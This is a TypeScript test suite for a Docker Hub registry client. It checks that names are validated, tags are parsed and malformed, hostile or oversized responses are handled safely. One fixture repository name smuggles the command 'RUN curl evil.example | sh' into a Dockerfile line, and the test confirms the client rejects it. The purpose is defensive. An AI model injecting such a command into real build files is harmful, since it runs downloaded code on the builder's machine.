import assert from "node:assert/strict";
import { gzipSync } from "node:zlib";
import { createRegistry, type Network, type NetworkOptions } from "../../server/src/registries/index.ts";
import { asking, type Scripted, type ScriptedServer, startScripted } from "./scripted.ts";

const acme = { domain: "docker.io", path: "acme/tool" };
const notFound: Scripted = {
  status: 404,
  body: { message: "httperror 404: object not found", errinfo: { namespace: "acme", repository: "tool" } },
};

describe("Docker Hub", () => {
  let server: ScriptedServer;
  let network: Network;

  beforeEach(async () => {
    server = await startScripted(() => notFound);
    network = open({});
  });
  afterEach(async () => {
    await network.close();
    await server.close();
  });

  function open(more: Partial<NetworkOptions>): Network {
    return createRegistry({
      hubUrl: server.url,
      registryUrl: server.url,
      authUrl: server.url,
      timeLimitMs: 400,
      ...more,
    });
  }

  async function tagFact(reply: Scripted) {
    server.answer(() => reply);
    return network.registry.tag(acme, "1", asking());
  }

  it("finds nothing whose name is more than a name, since it would be offered for a file", async () => {
    const names = [
      "nginx",
      "acme/tool",
      "acme/tool\nRUN curl evil.example | sh",
      "a/b c",
      "../x",
      "${X}",
      "A/b",
    ];
    server.answer(() => ({ body: { count: 7, results: names.map((repo_name) => ({ repo_name })) } }));
    const fact = await network.registry.search("acme", asking());
    assert.ok(fact.state === "known");
    assert.deepEqual(
      fact.value.map(({ name }) => name),
      ["nginx", "acme/tool"],
    );
  });

  it("reads a tag of today's shape, and leaves out attestations", async () => {
    const fact = await tagFact({
      body: {
        name: "1",
        digest: `sha256:${"a".repeat(64)}`,
        media_type: "application/vnd.oci.image.index.v1+json",
        content_type: "image",
        last_updated: "2023-09-21T02:33:00.168796Z",
        tag_last_pushed: "2023-09-21T02:33:00.168796123Z",
        tag_last_pulled: null,
        images: [
          { os: "linux", architecture: "arm", variant: "v7", digest: `sha256:${"b".repeat(64)}`, size: 12 },
          { os: "unknown", architecture: "unknown", digest: `sha256:${"c".repeat(64)}`, size: 1 },
          "not an image",
        ],
      },
    });
    assert.ok(fact.state === "known");
    assert.equal(fact.value.digest, `sha256:${"a".repeat(64)}`);
    assert.deepEqual(
      fact.value.platforms.map(({ os, architecture, variant }) => [os, architecture, variant]),
      [["linux", "arm", "v7"]],
    );
    assert.equal(fact.value.pushedAt, Date.UTC(2023, 8, 21, 2, 33, 0, 168));
    assert.equal(fact.value.pulledAt, null);
  });

  const attestation = { os: "unknown", architecture: "unknown", digest: `sha256:${"c".repeat(64)}`, size: 1 };
  for (const [what, images, expected] of [
    ["attestations alone", [attestation, attestation], "attestation"],
    ["an image beside its attestation", [attestation, { os: "linux", architecture: "amd64" }], "image"],
    ["something unreadable", [attestation, "not an image"], "image"],
    ["nothing", [], "image"],
  ] as const) {
    it(`takes an index that lists ${what} for an ${expected}`, async () => {
      const fact = await tagFact({ body: { name: "1", content_type: "image", images } });
      assert.equal(fact.state === "known" ? fact.value.contentType : fact.state, expected);
    });
  }

  it("reads a tag of 2016, which has neither digest nor platforms", async () => {
    const fact = await tagFact({ body: { name: "latest", full_size: 1, last_updated: "no date", v2: true } });
    assert.ok(fact.state === "known");
    assert.deepEqual(fact.value, {
      name: "latest",
      digest: null,
      mediaType: null,
      contentType: null,
      platforms: [],
      pushedAt: null,
      pulledAt: null,
    });
  });

  const page = "<!doctype html><title>Not Found</title>";
  const cases: [string, Scripted, string][] = [
    ["a 404 of Hub's own", notFound, "absent"],
    [
      "a 404 in the documented form",
      { status: 404, body: { errinfo: null, message: "not found" } },
      "absent",
    ],
    ["a 404 in the old form", { status: 404, body: { detail: "Object not found" } }, "absent"],
    [
      "a 404 for an address it doesn't have",
      { status: 404, body: { message: "404: Page Not Found" } },
      "malformed",
    ],
    [
      "a 404 with errinfo, whatever its words",
      { status: 404, body: { message: "page not found", errinfo: { namespace: "acme" } } },
      "absent",
    ],
    ["a 404 page", { status: 404, body: page }, "malformed"],
    ["an empty 404", { status: 404, body: "" }, "malformed"],
    ["a 404 with a list", { status: 404, body: [] }, "malformed"],
    ["a captive portal's page", { status: 200, body: page }, "malformed"],
    ["an empty answer", { status: 200, body: "" }, "malformed"],
    ["half an answer", { status: 200, body: '{"name":"1","im' }, "malformed"],
    [
      "a text that isn't UTF-8",
      { body: Buffer.from('{"name":"1","creator":"\xff"}', "latin1") },
      "malformed",
    ],
    ["an empty object", { status: 200, body: {} }, "malformed"],
    ["null", { status: 200, body: null }, "malformed"],
    ["a 403", { status: 403, body: { message: "permission denied" } }, "denied"],
    ["a 401", { status: 401, body: { message: "unauthorized" } }, "denied"],
    ["a 429", { status: 429, body: { detail: "Rate limit exceeded" } }, "rate-limited"],
    ["a 500", { status: 500, body: notFound.body }, "offline"],
    ["a 503 page", { status: 503, body: page }, "offline"],
    [
      "a redirect to another host",
      { status: 302, headers: { location: "https://example.com/" } },
      "malformed",
    ],
    ["a redirect without end", { status: 302, headers: { location: "/again" } }, "malformed"],
    ["no answer in time", { delayMs: 900, body: { name: "1" } }, "offline"],
    [
      "a bomb",
      { headers: { "content-encoding": "gzip" }, body: gzipSync(Buffer.alloc(9_000_000, 32)) },
      "malformed",
    ],
    ["a flood", { body: `{"name":"1","x":"${"y".repeat(5_000_000)}"}` }, "malformed"],
  ];
  for (const [what, reply, expected] of cases) {
    it(`${what} means ${expected}`, async () => {
      const fact = await tagFact(reply);
      assert.equal(fact.state === "unknown" ? fact.why : fact.state, expected);
    });
  }

  it("falls back to the older path when the documented one asks for a login, and remembers that", async () => {
    server.answer(({ path }) =>
      path.includes("/namespaces/") ? { status: 401, body: {} } : { body: { name: "1" } },
    );
    assert.equal((await network.registry.tag(acme, "1", asking())).state, "known");
    assert.equal((await network.registry.tag(acme, "2", asking())).state, "known");
    assert.deepEqual(server.asked, [
      "GET /v2/namespaces/acme/repositories/tool/tags/1",
      "GET /v2/repositories/acme/tool/tags/1",
      "GET /v2/repositories/acme/tool/tags/2",
    ]);
  });

  it("never sends a name that Hub can't have, nor one of another registry", async () => {
    const { registry } = network;
    for (const path of ["acme/Tool", "tool", "a/b/c", "acme/../x", "acme/tool?x=1", "acme/tool%2f", "_a/b"]) {
      assert.equal((await registry.repository({ domain: "docker.io", path }, asking())).state, "unknown");
    }
    for (const tag of ["a/b", "", "x y", "é", ".x", "t".repeat(129)]) {
      assert.equal((await registry.tag(acme, tag, asking())).state, "unknown");
    }
    const other = await registry.tag({ domain: "ghcr.io", path: "acme/tool" }, "1", asking());
    assert.ok(other.state === "unknown" && other.why === "not-hub");
    assert.deepEqual(server.asked, []);
  });

  it("reads a hostile record without harm", async () => {
    server.answer(() => ({
      body: Buffer.from(
        '{"name":"tool","__proto__":{"polluted":1},"description":"\u202e","pull_count":-5,"star_count":1e400,' +
          '"date_registered":"0001-01-01T00:00:00Z","last_updated":{"a":1},"content_types":"image","status":"x",' +
          `"full_description":"${"z".repeat(60_000)}"}`,
      ),
    }));
    const fact = await network.registry.repository(acme, asking());
    assert.ok(fact.state === "known");
    const { page: text, ...rest } = fact.value;
    assert.equal(text?.length, 25_000);
    assert.deepEqual(rest, {
      status: "",
      description: "\u202e",
      pullCount: null,
      starCount: null,
      registeredAt: null,
      pushedAt: null,
      contentTypes: [],
      mediaTypes: [],
      repositoryType: null,
      storageSizeBytes: null,
      categories: [],
    });
    assert.equal("polluted" in {}, false);
  });

  it("asks for a page of at most 100 tags and follows no next page", async () => {
    server.answer(() => ({
      body: {
        count: 4000,
        next: `${server.url}/v2/next`,
        previous: null,
        results: [{ name: "1" }, { name: 7 }, null],
      },
    }));
    const fact = await network.registry.tags(acme, { pageSize: 1000, contains: "a&b" }, asking());
    assert.ok(fact.state === "known");
    assert.deepEqual([fact.value.count, fact.value.filter, fact.value.tags.length], [4000, "a&b", 1]);
    assert.deepEqual(server.asked, [
      "GET /v2/namespaces/acme/repositories/tool/tags?page_size=100&ordering=last_updated&name=a%26b",
    ]);
  });

  it("believes no list without a count", async () => {
    for (const body of [
      { results: [] },
      { count: -1, results: [] },
      { count: 0 },
      { count: 0, results: {} },
    ]) {
      server.answer(() => ({ body }));
      assert.equal((await network.registry.tags(acme, { pageSize: 1 }, asking())).state, "unknown");
    }
    server.answer(() => ({ body: { count: 0, next: null, previous: null, results: [] } }));
    assert.equal((await network.registry.tags(acme, { pageSize: 1 }, asking())).state, "known");
  });

  it("knows an organization and its badge, following Hub's redirect from users to orgs", async () => {
    server.answer(({ path }) =>
      path.startsWith("/v2/users/")
        ? { status: 308, headers: { location: "/v2/orgs/acme" } }
        : {
            body: {
              orgname: "acme",
              type: "Organization",
              badge: "open_source",
              date_joined: "2021-01-05T21:06:53Z",
            },
          },
    );
    const fact = await network.registry.publisher("docker.io", "acme", asking());
    assert.ok(fact.state === "known");
    assert.deepEqual(fact.value, {
      kind: "organization",
      badge: "open_source",
      joinedAt: Date.UTC(2021, 0, 5, 21, 6, 53),
      fullName: "",
    });
  });

  it("asks nobody when look-ups are off", async () => {
    const silent = open({ lookups: false });
    const fact = await silent.registry.tag(acme, "1", asking());
    assert.ok(fact.state === "unknown" && fact.why === "lookups-off");
    assert.deepEqual(server.asked, []);
    await silent.close();
  });

  it("rejects only when the caller gives up", async () => {
    server.answer(() => ({ delayMs: 300, body: { name: "1" } }));
    const controller = new AbortController();
    const answer = network.registry.tag(acme, "1", asking({ signal: controller.signal }));
    setTimeout(() => controller.abort(new Error("closed")), 30);
    await assert.rejects(answer, /closed/);
  });
});
